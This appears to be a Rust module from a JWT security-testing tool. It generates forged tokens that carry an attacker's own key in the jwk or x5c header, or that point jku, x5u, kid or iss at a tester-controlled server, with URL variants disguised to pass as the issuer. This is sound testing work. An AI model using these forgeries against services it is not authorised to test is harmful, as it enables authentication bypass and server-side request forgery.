//! Keys that the token brings along, or says where to fetch.

use super::{Class, Forge, NotTested, Variants, mistake};
use crate::alg;
use crate::attempt::Attempt;
use crate::object::{Object, quoted};
use crate::own_key::OwnKey;
use crate::pem;
use crate::token::Token;
use crate::trap::Trap;

pub(super) const CLASSES: &[Class] = &[
    mistake(
        "embedded-jwk",
        "a key of the attacker's own in the header's jwk",
        "anybody writes tokens with a key of their own",
        "RFC 8725 section 3.10; CVE-2018-0114",
        Forge::OwnKey(embedded_jwk),
    ),
    mistake(
        "embedded-x5c",
        "a certificate of the attacker's own in the header's x5c",
        "anybody writes tokens with a key of their own",
        "RFC 8725 section 3.10; RFC 7515 section 4.1.6",
        Forge::OwnKey(embedded_x5c),
    ),
    mistake(
        "jku-followed",
        "jku naming an address of the attacker's own",
        "the service fetches keys, or whatever else it can reach, from where the token says",
        "RFC 8725 section 3.10; CWE-918",
        Forge::Trap(jku_followed),
    ),
    mistake(
        "x5u-followed",
        "x5u naming an address of the attacker's own",
        "the service fetches certificates, or whatever else it can reach, from where the token says",
        "RFC 8725 section 3.10; CWE-918",
        Forge::Trap(x5u_followed),
    ),
    mistake(
        "kid-followed",
        "kid naming an address of the attacker's own",
        "the service fetches keys, or whatever else it can reach, from where the token says",
        "RFC 8725 section 3.10; CWE-918",
        Forge::Trap(kid_followed),
    ),
    mistake(
        "iss-followed",
        "iss naming an address of the attacker's own",
        "whoever has a web server is an issuer",
        "RFC 8725 section 3.8; CWE-918",
        Forge::Trap(iss_followed),
    ),
];

fn own_header(token: &Token, own: &OwnKey) -> Object {
    token.header.with("alg", quoted(own.alg()))
}

/// The `kid`s under which a key of one's own may be looked for: the good one, none, and its own.
fn kids(header: &Object, own: &OwnKey) -> [(&'static str, Object); 3] {
    [
        ("the good kid", header.clone()),
        ("no kid", header.without("kid")),
        ("its own kid", header.with("kid", quoted(&own.kid))),
    ]
}

fn embedded_jwk(token: &Token, own: &OwnKey) -> Variants {
    let mut attempts = Vec::new();
    for (name, header) in kids(&own_header(token, own), own) {
        let jwk = header.text("kid").map_or_else(|| own.jwk.clone(), |kid| own.jwk_named(&kid));
        let draft = token.with_header(&header.with("jwk", jwk));
        attempts.push(Attempt::token(name, draft.signed_by(&own.signer)?));
    }
    let secret = r#"{"kty":"oct","k":"Z2F0ZXBhc3M"}"#;
    for (name, header) in kids(&token.header.with("alg", r#""HS256""#).with("jwk", secret), own) {
        let draft = token.with_header(&header);
        attempts.push(Attempt::token(format!("a secret, {name}"), draft.authenticated("HS256", b"gatepass")));
    }
    Ok(attempts)
}

fn embedded_x5c(token: &Token, own: &OwnKey) -> Variants {
    let Some(certificate) = &own.certificate else {
        return Err(NotTested::because(format!("there are no certificates for {} keys here", own.alg())));
    };
    let chain = format!("[{}]", quoted(&pem::encode_base64(certificate)));
    let mut attempts = Vec::new();
    for (name, header) in kids(&own_header(token, own).with("x5c", chain), own) {
        attempts.push(Attempt::token(name, token.with_header(&header).signed_by(&own.signer)?));
    }
    Ok(attempts)
}

/// Addresses that all lead to the trap, some of them in the clothes of the service's issuer.
fn addresses(token: &Token, trap: &Trap, path: &str) -> Vec<(String, String)> {
    let (here, tls) = (trap.authority(), trap.tls_authority());
    let issuer = token.payload.text("iss").unwrap_or_default();
    let host =
        issuer.split_once("://").map_or(&*issuer, |(_, rest)| rest).split('/').next().unwrap_or_default();
    let host = if host.is_empty() { "issuer.example" } else { host };
    vec![
        ("plain".to_owned(), format!("http://{here}/{path}")),
        ("over TLS".to_owned(), format!("https://{tls}/{path}")),
        ("behind the issuer as a user".to_owned(), format!("http://{host}@{here}/{path}")),
        ("with the issuer in the query".to_owned(), format!("http://{here}/{path}?{issuer}")),
        ("with the issuer in the fragment".to_owned(), format!("http://{here}/{path}#{issuer}")),
        (
            "with the issuer in the path".to_owned(),
            format!("http://{here}/{path}/{issuer}/.well-known/jwks.json"),
        ),
        ("in capitals".to_owned(), format!("HTTP://{here}/{path}")),
        ("without a scheme".to_owned(), format!("//{here}/{path}")),
    ]
}

fn followed(token: &Token, own: &OwnKey, trap: &Trap, member: &str, path: &str) -> Variants {
    let mut attempts = Vec::new();
    for (name, address) in addresses(token, trap, path) {
        let header = own_header(token, own).with(member, quoted(&address));
        for (kid, header) in kids(&header, own) {
            let draft = token.with_header(&header);
            attempts.push(Attempt::token(format!("{name}, {kid}"), draft.signed_by(&own.signer)?));
        }
    }
    Ok(attempts)
}

fn jku_followed(token: &Token, own: &OwnKey, trap: &Trap) -> Variants {
    followed(token, own, trap, "jku", "jwks")
}

fn x5u_followed(token: &Token, own: &OwnKey, trap: &Trap) -> Variants {
    followed(token, own, trap, "x5u", "cert")
}

fn kid_followed(token: &Token, own: &OwnKey, trap: &Trap) -> Variants {
    let header = own_header(token, own);
    let mut attempts = Vec::new();
    for path in ["jwks", "cert"] {
        for (name, address) in addresses(token, trap, path) {
            let draft = token.with_header(&header.with("kid", quoted(&address)));
            attempts.push(Attempt::token(format!("{name}, {path}"), draft.signed_by(&own.signer)?));
        }
    }
    Ok(attempts)
}

fn iss_followed(token: &Token, own: &OwnKey, trap: &Trap) -> Variants {
    if !alg::is_asymmetric(&token.alg) {
        return Err(NotTested::because(format!("a key for {} is nowhere to be fetched", token.alg)));
    }
    let here = trap.authority();
    let mut attempts = Vec::new();
    for (name, issuer) in
        [("an issuer", format!("http://{here}")), ("an issuer with a path", format!("http://{here}/realm"))]
    {
        let payload = token.payload.with("iss", quoted(&issuer));
        for (kid, header) in kids(&own_header(token, own), own) {
            let draft = token.with_payload(&payload).with_header(header.to_string());
            attempts.push(Attempt::token(format!("{name}, {kid}"), draft.signed_by(&own.signer)?));
        }
    }
    Ok(attempts)
}
